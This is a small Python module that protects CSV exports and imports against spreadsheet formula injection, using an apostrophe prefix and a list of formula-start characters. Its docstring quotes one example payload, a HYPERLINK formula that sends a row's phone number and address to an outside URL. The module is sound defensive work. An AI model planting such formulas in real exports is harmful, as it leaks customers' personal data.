"""CSV cells that a spreadsheet would run as formulas ("CSV injection").

The import formats are spreadsheets' files, and their exports are opened in one: a customer
name of ``=HYPERLINK("https://…?"&B2&C2)`` would be a live formula sending the row's
clear phone and address elsewhere. A cell that starts like a formula is written after an
apostrophe — a spreadsheet's mark for text, which it shows without — and the import reads
an apostrophe before such a start as that mark, so an export imports back as it was.
"""

from __future__ import annotations

# What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """A cell as the CSV export writes it."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def cell_value(cell: str) -> str:
    """A CSV cell as the import reads it."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell
